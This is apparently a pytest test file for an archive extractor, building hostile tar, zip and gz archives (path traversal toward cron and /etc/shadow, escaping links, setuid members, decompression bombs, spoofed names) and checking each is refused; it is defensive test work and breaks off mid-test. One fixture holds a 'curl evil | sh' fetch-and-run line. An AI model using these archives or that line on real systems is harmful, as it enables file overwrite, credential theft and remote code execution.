"""Tests for hub.upstream.archive: a corpus of hostile archives, crafted here, plus the happy paths.

Every hostile archive is generated in tmp_path (no binary file is committed). Most put the
hostile member *after* a perfectly good binary, to prove that the whole archive is validated
before anything is written.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import random
import stat
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Callable, Dict, List, Optional, Tuple

import pytest

from hub import cli
from hub.common.errors import HubError
from hub.upstream import archive as archive_module
from hub.upstream.archive import DEFAULT_LIMITS, ArchiveError, Limits, extract_binaries

KiB = 1024
MiB = 1024 * KiB

ROOT = "node_exporter-1.5.0.linux-amd64"
TGZ = f"{ROOT}.tar.gz"


def elf(machine: int = 62, *, cls: int = 2, data: int = 1, etype: int = 2, size: int = 64 * KiB) -> bytes:
    """A minimal ELF header (64 bytes) followed by pseudo-random, incompressible "code"."""
    ident = b"\x7fELF" + bytes([cls, data, 1, 0]) + b"\0" * 8
    header = struct.pack("<HHIQQQIHHHHHH", etype, machine, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    assert len(ident + header) == 64
    return ident + header + noise(size - 64, seed=machine)


def noise(size: int, seed: int = 0) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.getrandbits(8) for _ in range(size)) if size < 4096 else \
        b"".join(rng.getrandbits(32 * 1024).to_bytes(4 * 1024, "little") for _ in range(size // 4096)) + \
        bytes(size % 4096)


AMD64 = elf(62)
ARM64 = elf(183)

Member = Tuple[tarfile.TarInfo, Optional[bytes]]


def entry(name: str, data: bytes = b"", *, type: bytes = tarfile.REGTYPE, mode: int = 0o644,
          linkname: str = "", pax: Optional[Dict[str, str]] = None) -> Member:
    info = tarfile.TarInfo(name)
    info.type = type
    info.mode = mode
    info.linkname = linkname
    info.mtime = 1_700_000_000
    info.uname = info.gname = "root"
    if type in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    if pax:
        info.pax_headers = dict(pax)
    if type in (tarfile.REGTYPE, tarfile.AREGTYPE):
        info.size = len(data)
        return info, data
    return info, None


def prometheus_layout(binary: bytes = AMD64, root: str = ROOT, name: str = "node_exporter") -> List[Member]:
    return [
        entry(f"{root}/", type=tarfile.DIRTYPE, mode=0o755),
        entry(f"{root}/{name}", binary, mode=0o755),
        entry(f"{root}/LICENSE", b"Apache License\n" * 100),
        entry(f"{root}/NOTICE", b"Prometheus exporter\n"),
    ]


def tar_bytes(members: List[Member], *, format: int = tarfile.PAX_FORMAT, **kw: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=format, **kw) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def write_tar(path: Path, members: List[Member], compression: str = "gz", **kw: int) -> Path:
    raw = tar_bytes(members, **kw)
    if compression == "gz":
        raw = gzip.compress(raw, mtime=0)
    elif compression == "xz":
        raw = lzma.compress(raw)
    elif compression == "bz2":
        raw = bz2.compress(raw)
    path.write_bytes(raw)
    return path


def write_zip(path: Path, members: List[Tuple[zipfile.ZipInfo, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, data)
    return path


def zinfo(name: str, mode: int = stat.S_IFREG | 0o755) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2023, 11, 14, 22, 13, 20))
    info.create_system = 3
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def out_files(out: Path) -> List[str]:
    return sorted(p.name for p in out.iterdir()) if out.exists() else []


# --- The hostile corpus -----------------------------------------------------------------------
# Each case: builder(tmp_path) -> archive, the binaries asked for, the expected error substring,
# and optional keyword arguments (arch, limits).

Case = Tuple[Callable[[Path], Path], List[str], str, Dict[str, object]]
CORPUS: Dict[str, Case] = {}


def case(name: str, expected: str, binaries: Optional[List[str]] = None, **kwargs: object):
    def register(builder: Callable[[Path], Path]) -> Callable[[Path], Path]:
        assert name not in CORPUS
        CORPUS[name] = (builder, binaries or ["node_exporter"], expected, kwargs)
        return builder
    return register


def hostile_tar(tmp: Path, *extra: Member, compression: str = "gz", **kw: int) -> Path:
    """A good Prometheus-style archive with hostile members after the binary."""
    suffix = {"gz": ".tar.gz", "xz": ".tar.xz", "none": ".tar"}[compression]
    return write_tar(tmp / f"{ROOT}{suffix}", prometheus_layout() + list(extra), compression, **kw)


@case("tar-dotdot", "member '../../etc/cron.d/evil': its name has a '..' component")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry("../../etc/cron.d/evil", b"* * * * * root sh\n"))


@case("tar-dotdot-inside", "has a '..' component")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/../../evil", b"x"))


@case("tar-absolute", "member '/etc/passwd': its name is an absolute path")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry("/etc/passwd", b"root::0:0::/:/bin/sh\n"))


@case("tar-backslash", "contains a backslash")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry("..\\..\\evil.sh", b"x"))


@case("tar-symlink-escape", "is a symbolic link to '../../../etc/shadow', which points outside the archive")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/shadow", type=tarfile.SYMTYPE, linkname="../../../etc/shadow"))


@case("tar-symlink-absolute", "points outside the archive (absolute target)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/etc", type=tarfile.SYMTYPE, linkname="/etc"))


@case("tar-symlink-chain-escape", "is a symbolic link to 'here/../outside', which points outside the archive")
def _(tmp: Path) -> Path:
    # Lexically "here/../outside" stays inside; through the link "here" -> "." it does not.
    return hostile_tar(tmp, entry("here", type=tarfile.SYMTYPE, linkname="."),
                       entry("escape", type=tarfile.SYMTYPE, linkname="here/../outside"))


@case("tar-symlink-loop", "symbolic link loop")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/a", type=tarfile.SYMTYPE, linkname="b"),
                       entry(f"{ROOT}/b", type=tarfile.SYMTYPE, linkname="a"))


@case("tar-write-through-symlink", f"member '{ROOT}/lib/evil': lies under '{ROOT}/lib', which is a symbolic link")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/lib", type=tarfile.SYMTYPE, linkname="."),
                       entry(f"{ROOT}/lib/evil", b"x"))


@case("tar-symlink-is-binary",
      f"member '{ROOT}/node_exporter': the binary 'node_exporter' is a symbolic link to 'bin/node_exporter.real'")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, [
        entry(f"{ROOT}/bin/node_exporter.real", AMD64, mode=0o755),
        entry(f"{ROOT}/node_exporter", type=tarfile.SYMTYPE, linkname="bin/node_exporter.real"),
    ])


@case("tar-hardlink-escape", "is a hard link to '../../etc/shadow', which has a '..' component")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/shadow", type=tarfile.LNKTYPE, linkname="../../etc/shadow"))


@case("tar-hardlink-outside-name", "is a hard link to 'etc/shadow', which is not an earlier regular file of the archive")
def _(tmp: Path) -> Path:
    # tar would link to whatever "etc/shadow" is on disk relative to the extraction directory.
    return hostile_tar(tmp, entry(f"{ROOT}/shadow", type=tarfile.LNKTYPE, linkname="etc/shadow"))


@case("tar-hardlink-absolute", "is a hard link to '/etc/shadow', which is an absolute path")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/shadow", type=tarfile.LNKTYPE, linkname="/etc/shadow"))


@case("tar-hardlink-is-binary", "the binary 'node_exporter' is a hard link")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, [
        entry(f"{ROOT}/node_exporter.real", AMD64, mode=0o755),
        entry(f"{ROOT}/node_exporter", type=tarfile.LNKTYPE, linkname=f"{ROOT}/node_exporter.real"),
    ])


@case("tar-char-device", "member 'dev/mem': is a character device")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry("dev/mem", type=tarfile.CHRTYPE))


@case("tar-block-device", "member 'dev/sda': is a block device")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry("dev/sda", type=tarfile.BLKTYPE))


@case("tar-fifo", "is a FIFO (named pipe)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/pipe", type=tarfile.FIFOTYPE))


@case("tar-unknown-type", "is an entry of unsupported tar type b'V'")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry("volume", type=b"V"))


@case("tar-setuid-binary", f"member '{ROOT}/node_exporter': has the setuid bit set (mode 4755)")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, [entry(f"{ROOT}/node_exporter", AMD64, mode=0o4755)])


@case("tar-setgid", "has the setgid bit set (mode 2755)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/helper", b"#!/bin/sh\n", mode=0o2755))


@case("tar-sticky-dir", "has the sticky bit set (mode 1777)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/tmp/", type=tarfile.DIRTYPE, mode=0o1777))


@case("tar-duplicate-shadowing", f"is a second entry for '{ROOT}/node_exporter'")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/node_exporter", ARM64, mode=0o755))


@case("tar-duplicate-normalized", f"member './{ROOT}//node_exporter': is a second entry")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"./{ROOT}//node_exporter", ARM64, mode=0o755))


@case("tar-member-count-bomb", "more than 20 members", limits=Limits(max_members=20))
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, *(entry(f"{ROOT}/empty/{i}") for i in range(100)))


@case("tar-size-bomb-declared", "is 2097152 bytes, over the per-member limit of 1048576 bytes",
      limits=Limits(max_member_size=1 * MiB))
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/big", noise(2 * MiB, seed=1)))


@case("tar-total-size-bomb", "over 1048576 bytes", limits=Limits(max_total_size=1 * MiB))
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, *(entry(f"{ROOT}/part{i}", noise(400 * KiB, seed=i)) for i in range(3)))


@case("tar-ratio-bomb", "expands more than 200:1")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/zeros", bytes(8 * MiB)))


@case("tar-xz-ratio-bomb", "expands more than 200:1")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/zeros", bytes(8 * MiB)), compression="xz")


@case("tar-pax-metadata-bomb", "bytes of tar headers before one member", limits=Limits(max_metadata=64 * KiB))
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/x", b"x", pax={"comment": "A" * (256 * KiB)}))


@case("tar-truncated-gzip", "truncated")
def _(tmp: Path) -> Path:
    path = write_tar(tmp / TGZ, prometheus_layout())
    raw = path.read_bytes()
    path.write_bytes(raw[: len(raw) // 2])
    return path


@case("tar-gzip-crc", "the gzip CRC check failed")
def _(tmp: Path) -> Path:
    path = write_tar(tmp / TGZ, prometheus_layout())
    raw = bytearray(path.read_bytes())
    raw[-8] ^= 0xFF  # first byte of the CRC32 in the gzip trailer
    path.write_bytes(bytes(raw))
    return path


@case("tar-gzip-corrupt-deflate", "expected an intact gzip stream")
def _(tmp: Path) -> Path:
    path = write_tar(tmp / TGZ, prometheus_layout())
    raw = bytearray(path.read_bytes())
    for i in range(200, 260):
        raw[i] ^= 0x5A
    path.write_bytes(bytes(raw))
    return path


@case("tar-trailing-garbage-after-gzip", "unexpected data after the end of the gzip stream")
def _(tmp: Path) -> Path:
    path = write_tar(tmp / TGZ, prometheus_layout())
    path.write_bytes(path.read_bytes() + b"garbage")
    return path


@case("tar-corrupt-header", "corrupt tar header at byte")
def _(tmp: Path) -> Path:
    raw = bytearray(tar_bytes(prometheus_layout() + [entry(f"{ROOT}/late", b"data")], format=tarfile.GNU_FORMAT))
    offset = raw.index(f"{ROOT}/late".encode())
    raw[offset + 148 : offset + 156] = b"0000000\0"  # wrong checksum: tarfile would stop quietly
    path = tmp / f"{ROOT}.tar.gz"
    path.write_bytes(gzip.compress(bytes(raw), mtime=0))
    return path


@case("tar-truncated-at-header", "without an end-of-archive marker")
def _(tmp: Path) -> Path:
    raw = tar_bytes(prometheus_layout(), format=tarfile.GNU_FORMAT)
    offset = raw.index(f"{ROOT}/LICENSE".encode())  # the header of the member after the binary
    path = tmp / f"{ROOT}.tar"
    path.write_bytes(raw[:offset])
    return path


@case("tar-data-after-end", "data after the end-of-archive marker")
def _(tmp: Path) -> Path:
    raw = tar_bytes(prometheus_layout())
    hidden = tar_bytes([entry(f"{ROOT}/hidden", b"seen only by tar --ignore-zeros")])
    path = tmp / f"{ROOT}.tar.xz"
    path.write_bytes(lzma.compress(raw + hidden))
    return path


@case("zip-named-tar-gz", "the file is a zip archive, but its name (.tar.gz) says a gzip-compressed tar archive")
def _(tmp: Path) -> Path:
    return write_zip(tmp / TGZ, [(zinfo(f"{ROOT}/node_exporter"), AMD64)])


@case("tar-named-zip", "the file is an uncompressed tar archive, but its name (.zip) says a zip archive")
def _(tmp: Path) -> Path:
    return write_tar(tmp / f"{ROOT}.zip", prometheus_layout(), compression="none")


@case("tgz-named-tar", "the file is gzip-compressed data, but its name (.tar) says an uncompressed tar archive")
def _(tmp: Path) -> Path:
    return write_tar(tmp / f"{ROOT}.tar", prometheus_layout(), compression="gz")


@case("binary-named-tar-gz", "the file is an uncompressed ELF file, but its name (.tar.gz)")
def _(tmp: Path) -> Path:
    path = tmp / TGZ
    path.write_bytes(AMD64)
    return path


@case("gzip-without-tar", "not a tar archive inside")
def _(tmp: Path) -> Path:
    path = tmp / TGZ
    path.write_bytes(gzip.compress(AMD64, mtime=0))
    return path


@case("empty-file", "the file is empty")
def _(tmp: Path) -> Path:
    path = tmp / TGZ
    path.write_bytes(b"")
    return path


@case("zip-dotdot", "member '../../evil.sh': its name has a '..' component")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("../../evil.sh"), b"x")])


@case("zip-absolute", "member '/usr/bin/evil': its name is an absolute path")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("/usr/bin/evil"), b"x")])


@case("zip-backslash", "contains a backslash")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("..\\..\\evil.exe"), b"x")])


@case("zip-symlink-escape", "is a symbolic link to '../../../etc/passwd', which points outside the archive")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64),
                                            (zinfo("passwd", stat.S_IFLNK | 0o777), b"../../../etc/passwd")])


@case("zip-symlink-is-binary", "the binary 'node_exporter' is a symbolic link to 'real/node_exporter'")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("real/node_exporter.bin"), AMD64),
                                            (zinfo("node_exporter", stat.S_IFLNK | 0o777), b"real/node_exporter")])


@case("zip-socket", "member 'sock': is a socket")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("sock", stat.S_IFSOCK | 0o755), b"")])


@case("zip-char-device", "is a character device")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("null", stat.S_IFCHR | 0o666), b"")])


@case("zip-setuid", "member 'node_exporter': has the setuid bit set (mode 4755)")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter", stat.S_IFREG | 0o4755), AMD64)])


@case("zip-encrypted", "member 'secret': is encrypted")
def _(tmp: Path) -> Path:
    path = write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("secret"), b"x")])
    raw = bytearray(path.read_bytes())  # zipfile cannot encrypt: set the flag bit by hand
    local = raw.index(b"secret") - 30  # the first "secret" is in its local header
    assert raw[local : local + 4] == b"PK\x03\x04"
    raw[local + 6] |= 0x1
    central = raw.index(b"PK\x01\x02", raw.index(b"PK\x01\x02") + 4)
    raw[central + 8] |= 0x1
    path.write_bytes(bytes(raw))
    return path


@case("zip-duplicate", "is a second entry for 'node_exporter'")
def _(tmp: Path) -> Path:
    with pytest.warns(UserWarning):  # zipfile warns about the duplicate name, and writes it
        return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("node_exporter"), ARM64)])


@case("zip-overlapping-entries", "its data overlaps member")
def _(tmp: Path) -> Path:
    path = write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("LICENSE"), b"x" * 1000)])
    raw = bytearray(path.read_bytes())
    second = raw.index(b"PK\x01\x02", raw.index(b"PK\x01\x02") + 4)  # second central directory entry
    raw[second + 42 : second + 46] = (0).to_bytes(4, "little")  # point it at the first entry's data
    path.write_bytes(bytes(raw))
    return path


@case("zip-crc", "Bad CRC-32")
def _(tmp: Path) -> Path:
    path = tmp / f"{ROOT}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(zinfo("node_exporter"), AMD64)
    raw = bytearray(path.read_bytes())
    raw[30 + len("node_exporter") + 1000] ^= 0xFF  # a byte of the stored data
    path.write_bytes(bytes(raw))
    return path


@case("zip-ratio-bomb", "expands more than 200:1")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("zeros"), bytes(8 * MiB))])


@case("gz-size-bomb", "member 'foo_exporter-1.0-linux-amd64': expands to more than 1048576 bytes",
      binaries=["foo_exporter"], limits=Limits(max_member_size=1 * MiB))
def _(tmp: Path) -> Path:
    path = tmp / "foo_exporter-1.0-linux-amd64.gz"
    path.write_bytes(gzip.compress(AMD64 + noise(2 * MiB, seed=3), mtime=0))
    return path


@case("gz-ratio-bomb", "expands more than 200:1", binaries=["foo_exporter"])
def _(tmp: Path) -> Path:
    path = tmp / "foo_exporter-1.0-linux-amd64.gz"
    path.write_bytes(gzip.compress(AMD64[:64] + bytes(16 * MiB), mtime=0))
    return path


@case("gz-truncated", "truncated", binaries=["foo_exporter"])
def _(tmp: Path) -> Path:
    path = tmp / "foo_exporter-1.0-linux-amd64.gz"
    raw = gzip.compress(AMD64, mtime=0)
    path.write_bytes(raw[:-6])
    return path


@case("gz-holding-a-tar", "holds a tar archive, not a single file", binaries=["foo_exporter"])
def _(tmp: Path) -> Path:
    path = tmp / "foo_exporter-1.0-linux-amd64.gz"
    path.write_bytes(gzip.compress(tar_bytes(prometheus_layout()), mtime=0))
    return path


@case("gz-two-binaries", "holds exactly one file, but 2 binaries were requested", binaries=["a", "b"])
def _(tmp: Path) -> Path:
    path = tmp / "foo_exporter-1.0-linux-amd64.gz"
    path.write_bytes(gzip.compress(AMD64, mtime=0))
    return path


@case("name-nul", "its name contains a NUL byte")
def _(tmp: Path) -> Path:
    # A NUL cannot live in a ustar name field, but it can in a pax "path" record.
    return hostile_tar(tmp, entry(f"{ROOT}/evil", b"x", pax={"path": f"{ROOT}/evil\0.txt"}))


@case("name-control-char", "its name contains a control character (U+001B)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/\x1b]0;pwned\x07", b"x"))


@case("name-newline", "its name contains a control character (U+000A)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/README\nnode_exporter", b"x"))


@case("name-bidi-override", "its name contains an invisible formatting character (U+202E)")
def _(tmp: Path) -> Path:
    return hostile_tar(tmp, entry(f"{ROOT}/evil\u202etxt.sh", b"x"))


@case("name-invalid-utf8", "bytes that are not valid UTF-8")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout() + [entry(f"{ROOT}/bad\udcff", b"x")],
                     format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape")


@case("zip-name-control-char", "its name contains a control character (U+0007)")
def _(tmp: Path) -> Path:
    return write_zip(tmp / f"{ROOT}.zip", [(zinfo("node_exporter"), AMD64), (zinfo("bell\x07"), b"x")])


@case("binary-missing", "no member named 'node_exporter'; expected exactly one regular file with that name "
      "(regular files found: LICENSE, NOTICE, blackbox_exporter)")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(name="blackbox_exporter"))


@case("binary-ambiguous", f"binary 'node_exporter' is ambiguous: 2 members have that name "
      f"('{ROOT}/node_exporter', 'other/node_exporter')")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout() + [entry("other/node_exporter", ARM64, mode=0o755)])


@case("elf-wrong-arch", f"node_exporter in {TGZ} is an ELF for aarch64, expected x86_64 (amd64)", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(ARM64))


@case("elf-wrong-arch-arm64", "is an ELF for x86_64, expected aarch64 (arm64)", arch="arm64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(AMD64))


@case("elf-32-bit", "is an ELF for i386, expected x86_64 (amd64)", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(elf(3, cls=1)))


@case("not-an-elf", f"node_exporter in {TGZ} is not an ELF executable", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(b"#!/bin/sh\nexec curl evil | sh\n"))


@case("elf-object-not-executable", "is not an ELF executable (member", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(elf(62, etype=1)))  # ET_REL


@case("second-binary-wrong-arch", "promtool in", binaries=["prometheus", "promtool"], arch="arm64")
def _(tmp: Path) -> Path:
    root = "prometheus-2.45.0.linux-arm64"
    return write_tar(tmp / f"{root}.tar.gz", [
        entry(f"{root}/prometheus", elf(183), mode=0o755),
        entry(f"{root}/promtool", elf(62), mode=0o755),
    ])


def test_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 20


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_archive_is_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    builder, binaries, expected, kwargs = CORPUS[name]
    src = tmp_path / "src"
    src.mkdir()
    archive = builder(src)
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(src)  # messages name the archive as it was given: here, its bare name
    with pytest.raises(ArchiveError) as raised:
        extract_binaries(Path(archive.name), binaries, out, **kwargs)  # type: ignore[arg-type]
    message = str(raised.value)
    assert expected in message
    assert isinstance(raised.value, HubError)
    assert "\n" not in message and archive.name in message
    assert out_files(out) == []


# --- Happy paths ------------------------------------------------------------------------------


def test_prometheus_layout_tar_gz(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    out = tmp_path / "out"
    written = extract_binaries(archive, ["node_exporter"], out, arch="amd64")
    assert written == {"node_exporter": out / "node_exporter"}
    assert (out / "node_exporter").read_bytes() == AMD64
    assert stat.S_IMODE((out / "node_exporter").stat().st_mode) == 0o755
    assert out_files(out) == ["node_exporter"]  # nothing else: no LICENSE, no temporary file


def test_root_entry_and_pax_long_names(tmp_path: Path) -> None:
    deep = "/".join(["very-long-directory-name"] * 8)
    members = [entry("./", type=tarfile.DIRTYPE, mode=0o755), entry(f"./{deep}/node_exporter", AMD64, mode=0o755)]
    archive = write_tar(tmp_path / TGZ, members)
    extract_binaries(archive, ["node_exporter"], tmp_path / "out", arch="amd64")
    assert (tmp_path / "out" / "node_exporter").read_bytes() == AMD64


def test_extra_binaries_and_harmless_links(tmp_path: Path) -> None:
    root = "prometheus-2.45.0.linux-arm64"
    archive = write_tar(tmp_path / f"{root}.tar.gz", [
        entry(f"{root}/", type=tarfile.DIRTYPE, mode=0o755),
        entry(f"{root}/prometheus", elf(183, size=256 * KiB), mode=0o755),
        entry(f"{root}/promtool", ARM64, mode=0o755),
        entry(f"{root}/consoles/", type=tarfile.DIRTYPE, mode=0o755),
        entry(f"{root}/consoles/index.html.example", b"<html/>" * 50),
        entry(f"{root}/console_libraries/menu.lib", b"{{ define }}"),
        entry(f"{root}/prometheus.yml", b"global: {}\n"),
        entry(f"{root}/docs", type=tarfile.SYMTYPE, linkname="consoles"),  # stays inside: fine
        entry(f"{root}/LICENSE", b"Apache\n"),
        entry(f"{root}/LICENSE.copy", type=tarfile.LNKTYPE, linkname=f"{root}/LICENSE"),
    ])
    out = tmp_path / "out"
    written = extract_binaries(archive, ["prometheus", "promtool", "prometheus"], out, arch="arm64")
    assert list(written) == ["prometheus", "promtool"]
    assert (out / "prometheus").read_bytes() == elf(183, size=256 * KiB)
    assert (out / "promtool").read_bytes() == ARM64
    assert out_files(out) == ["prometheus", "promtool"]
    for name in written:
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o755


def test_zip(tmp_path: Path) -> None:
    archive = write_zip(tmp_path / "windows_exporter-0.25.0-amd64.zip", [
        (zinfo("windows_exporter-0.25.0/"), b""),
        (zinfo("windows_exporter-0.25.0/LICENSE", stat.S_IFREG | 0o644), b"MIT\n"),
        (zinfo("windows_exporter-0.25.0/windows_exporter"), AMD64),
    ])
    out = tmp_path / "out"
    extract_binaries(archive, ["windows_exporter"], out, arch="amd64")
    assert (out / "windows_exporter").read_bytes() == AMD64
    assert stat.S_IMODE((out / "windows_exporter").stat().st_mode) == 0o755


def test_zip_without_unix_modes(tmp_path: Path) -> None:
    archive = tmp_path / "tool.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        info = zipfile.ZipInfo("tool")
        info.create_system = 0  # MS-DOS: no Unix mode at all
        zf.writestr(info, AMD64)
    extract_binaries(archive, ["tool"], tmp_path / "out")
    assert stat.S_IMODE((tmp_path / "out" / "tool").stat().st_mode) == 0o755


def test_single_file_gz(tmp_path: Path) -> None:
    archive = tmp_path / "foo_exporter-1.0-linux-amd64.gz"
    archive.write_bytes(gzip.compress(AMD64, mtime=0))
    out = tmp_path / "out"
    written = extract_binaries(archive, ["foo_exporter"], out, arch="amd64")
    assert written == {"foo_exporter": out / "foo_exporter"}
    assert (out / "foo_exporter").read_bytes() == AMD64
    assert stat.S_IMODE((out / "foo_exporter").stat().st_mode) == 0o755


@pytest.mark.parametrize("compression,suffix", [("xz", ".tar.xz"), ("bz2", ".tar.bz2"), ("none", ".tar"),
                                                ("gz", ".tgz")])
def test_other_tar_compressions(tmp_path: Path, compression: str, suffix: str) -> None:
    archive = write_tar(tmp_path / f"{ROOT}{suffix}", prometheus_layout(), compression)
    extract_binaries(archive, ["node_exporter"], tmp_path / "out", arch="amd64")
    assert (tmp_path / "out" / "node_exporter").read_bytes() == AMD64


def test_concatenated_gzip_members(tmp_path: Path) -> None:
    raw = tar_bytes(prometheus_layout())
    archive = tmp_path / TGZ
    archive.write_bytes(gzip.compress(raw[:5000], mtime=0) + gzip.compress(raw[5000:], mtime=0) + bytes(8))
    extract_binaries(archive, ["node_exporter"], tmp_path / "out")
    assert (tmp_path / "out" / "node_exporter").read_bytes() == AMD64


def test_replaces_an_existing_output(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    out = tmp_path / "out"
    out.mkdir()
    (out / "node_exporter").write_bytes(b"old")
    extract_binaries(archive, ["node_exporter"], out)
    assert (out / "node_exporter").read_bytes() == AMD64


def test_display_name_is_used_in_messages(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / "upstream.tar.gz", prometheus_layout(ARM64))
    with pytest.raises(ArchiveError, match=r"^node_exporter in https://example\.invalid/x\.tar\.gz is an ELF"):
        extract_binaries(archive, ["node_exporter"], tmp_path / "out", arch="amd64",
                         display_name="https://example.invalid/x.tar.gz")


def test_missing_binary_lists_at_most_ten_names(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / TGZ, [entry(f"{ROOT}/file{i:02d}", b"x") for i in range(15)])
    with pytest.raises(ArchiveError) as raised:
        extract_binaries(archive, ["node_exporter"], tmp_path / "out")
    assert "file00, file01, file02, file03, file04, file05, file06, file07, file08, file09 and 5 more" \
        in str(raised.value)


@pytest.mark.parametrize("bad", ["", "bin/node_exporter", "..", "a\0b"])
def test_invalid_binary_names(tmp_path: Path, bad: str) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    with pytest.raises(ArchiveError, match="invalid binary name"):
        extract_binaries(archive, [bad], tmp_path / "out")


def test_unsupported_suffix_and_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match="unsupported archive type"):
        extract_binaries(tmp_path / "x.rar", ["x"], tmp_path / "out")
    with pytest.raises(ArchiveError, match="cannot read the archive"):
        extract_binaries(tmp_path / "absent.tar.gz", ["x"], tmp_path / "out")


def test_limits_are_documented_constants() -> None:
    assert DEFAULT_LIMITS.max_members == archive_module.MAX_MEMBERS == 10_000
    assert DEFAULT_LIMITS.max_member_size == archive_module.MAX_MEMBER_SIZE == 512 * MiB
    assert DEFAULT_LIMITS.max_total_size == archive_module.MAX_TOTAL_SIZE == 2 * 1024 * MiB
    assert DEFAULT_LIMITS.max_ratio == archive_module.MAX_RATIO == 200
    assert DEFAULT_LIMITS.ratio_min_size == archive_module.RATIO_MIN_SIZE == 1 * MiB


def test_failure_while_writing_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = "prometheus-2.45.0.linux-amd64"
    archive = write_tar(tmp_path / f"{root}.tar.gz", [
        entry(f"{root}/prometheus", AMD64, mode=0o755),
